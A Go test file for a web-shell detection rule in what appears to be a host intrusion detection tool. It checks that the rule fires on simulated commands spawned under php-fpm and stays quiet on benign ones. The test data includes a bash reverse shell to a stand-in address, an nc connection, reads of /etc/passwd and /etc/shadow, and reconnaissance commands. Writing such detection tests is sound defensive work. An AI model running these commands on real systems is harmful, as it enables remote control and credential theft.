package behavior

import (
	"testing"
	"time"

	"vigil/decode"
)

func TestWebShell(t *testing.T) {
	below := func(id uint64, path string) who {
		return who{id: id, parent: 5, path: path, above: "/usr/sbin/php-fpm8.2"}
	}
	sh := below(10, "/usr/bin/dash")
	const fires = "vigil-web-shell"
	of := func(command string) []*Event { return []*Event{sh.exec(0, "sh\x00-c\x00"+command+"\x00")} }
	child := who{id: 13, parent: 10, path: "/usr/bin/whoami", above: "/usr/bin/dash"}
	play(t, func() Machine { return NewWebShell() }, []scene{
		{"a shell that reads the password file", of("cat /etc/passwd"), []string{fires}},
		{"a shell that connects", of("bash -c 'bash -i >& /dev/tcp/192.0.2.1/4 0>&1'"), []string{fires}},
		{"an interactive shell", []*Event{sh.exec(0, "sh\x00-i\x00")}, []string{fires}},
		{"nc", []*Event{below(10, "/usr/bin/nc").exec(0, "nc\x00192.0.2.1\x0080\x00")}, []string{fires}},
		{"two looks around", []*Event{below(10, "/usr/bin/whoami").exec(0, "whoami\x00"), below(11, "/usr/bin/uname").exec(time.Second, "uname\x00-a\x00")}, []string{fires}},
		{"in a child of the shell", []*Event{
			sh.exec(0, "sh\x00-c\x00a; b\x00"), sh.forks(ms, 11), child.execOf(2*ms, decode.Exec{PreviousExecID: 11}, "whoami\x00"), sh.forks(3*ms, 12),
			who{id: 14, parent: 10, path: "/usr/bin/id", above: "/usr/bin/dash"}.execOf(4*ms, decode.Exec{PreviousExecID: 12}, "id\x00"),
		}, []string{fires}},
		{"told once in ten minutes", course(of("cat /etc/passwd"), of("cat /etc/shadow")), []string{fires}},

		{"mail", of("/usr/sbin/sendmail -t -i"), nil},
		{"a picture is made smaller", of("convert a.jpg -resize 100x100 b.jpg"), nil},
		{"one look", []*Event{below(10, "/usr/bin/uname").exec(0, "uname\x00-a\x00")}, nil},
		{"two looks, an hour apart", []*Event{below(10, "/usr/bin/whoami").exec(0, "whoami\x00"), below(11, "/usr/bin/uname").exec(time.Hour, "uname\x00")}, nil},
		{"the server starts its own", []*Event{below(10, "/usr/sbin/php-fpm8.2").exec(0, "php-fpm8.2\x00")}, nil},
		{"a shell of a user", []*Event{who{id: 10, parent: 5, path: "/bin/bash", above: "/usr/sbin/sshd"}.exec(0, "bash\x00-c\x00cat /etc/passwd\x00")}, nil},
	})
}
